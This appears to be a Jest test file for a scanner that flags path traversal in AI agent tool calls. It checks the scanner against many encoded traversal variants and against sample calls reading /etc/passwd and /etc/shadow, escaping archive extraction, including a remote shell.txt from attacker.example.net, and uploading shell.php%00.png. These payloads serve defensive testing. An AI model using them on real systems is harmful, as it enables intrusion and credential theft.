import { describe, expect, it } from '@jest/globals';
import { Scanner } from '../scanner.ts';
import { climbOf } from './climb.ts';
import { pathsDetectors } from './detectors.ts';

describe('a path, as file APIs resolve it', () => {
  it.each([
    ['../../etc/passwd', 2, 'etc/passwd'],
    ['docs/../README.md', 0, 'readme.md'],
    ['a/b/../../../c', 1, 'c'],
    ['..\\..\\windows\\win.ini', 2, 'windows/win.ini'],
    ['..//./..///etc', 2, 'etc'],
    ['%2e%2e%2fetc', 1, 'etc'],
    ['%252e%252e%255cboot.ini', 1, 'boot.ini'],
    ['..%c0%afetc', 1, 'etc'],
    ['%c0%ae%c0%ae%c1%9cetc', 1, 'etc'],
    ['%e0%80%ae%e0%80%ae/etc', 1, 'etc'],
    ['%uff0e%uff0e%u2215etc', 1, 'etc'],
    ['%%32%%65%%32%%65/etc', 1, 'etc'],
    ['0x2e0x2e0x2fetc', 1, 'etc'],
    ['..;/manager', 1, 'manager'],
    [';../manager', 1, 'manager'],
    ['....//etc', 1, 'etc'],
    ['..%00/etc', 1, 'etc'],
    ['..%01\\etc', 1, 'etc'],
    ['．．／etc', 1, 'etc'],
    ['.../file', 0, '.../file'],
    ['..hidden/file', 0, '..hidden/file'],
  ])('%s climbs %d above its start, to %s', (path, above, target) => {
    expect(climbOf(path)).toMatchObject({ above, target });
  });
});

describe('path traversal in calls', () => {
  it.each([
    ['read_file', { path: '../../packages/api/README.md' }],
    ['read_file', { path: '../../../../package.json' }],
    ['write_file', { path: 'app/[...slug]/page.tsx', content: "import x from '../../../../x'" }],
    ['run_command', { command: 'cd ../.. && cp ../../../../LICENSE . && go test ./...' }],
    ['run_command', { command: 'docker run -v $(pwd)/../..:/src app' }],
    ['http_get', { url: 'https://example.com/a/b/../c' }],
    ['http_get', { url: 'https://example.com/next?to=docs%2F..%2Fintro' }],
    ['create_ticket', { description: 'The scanner reported a request for ../../../../etc/passwd from our office' }],
    ['run_command', { command: 'cd app; cd ..; ls ..;/bin/true' }],
    ['git_log', { range: 'v1.0...v2.0' }],
    ['search_files', { pattern: '\\.\\./\\.\\./' }],
  ])('%s %j is ordinary', (name, toolArguments) => {
    expect(typesIn(name, toolArguments)).toEqual([]);
  });

  it.each([
    ['read_file', { path: 'uploads/../../../etc/passwd' }],
    ['read_file', { path: '/var/www/../../etc/passwd' }],
    ['run_command', { command: 'cat ../../../../../../etc/shadow' }],
    ['get_article', { slug: '../admin' }],
    ['extract_archive', { archive: 'a.zip', entry: '..\\..\\evil.dll' }],
    ['extract_archive', { archive: 'a.zip', entry: '/etc/cron.d/x' }],
    ['http_get', { url: 'https://example.com/get?file=..%5c..%5c..%5cboot.ini' }],
    ['http_get', { url: 'https://example.com/get?file=??%c0%2f??%c0%2fetc%c0%2fpasswd' }],
    ['http_get', { url: 'https://example.com/index.php?page=http://attacker.example.net/shell.txt' }],
    ['create_user', { username: '../../../../etc/passwd' }],
    ['upload_file', { filename: 'shell.php%00.png' }],
  ])('%s %j leaves its tree', (name, toolArguments) => {
    expect(typesIn(name, toolArguments)).toEqual(['path_traversal']);
  });
});

it.each(['../', '..\\', '%2e%2e/', '..%c0%af', '....//', '0x2e', '%%32', '\0', '\ud800'])('half a megabyte of %j is read in time', (unit) => {
  const { threats_detected: types } = scanner.scanCall({ name: 'read_file', arguments: { path: unit.repeat(Math.ceil(524_288 / unit.length)), url: unit.repeat(Math.ceil(100_000 / unit.length)) } });
  expect(types).not.toContain('scan_incomplete');
});

const scanner = new Scanner(pathsDetectors);
const typesIn = (name: string, toolArguments: Record<string, string>): readonly string[] => scanner.scanCall({ name, arguments: toolArguments }).threats_detected;
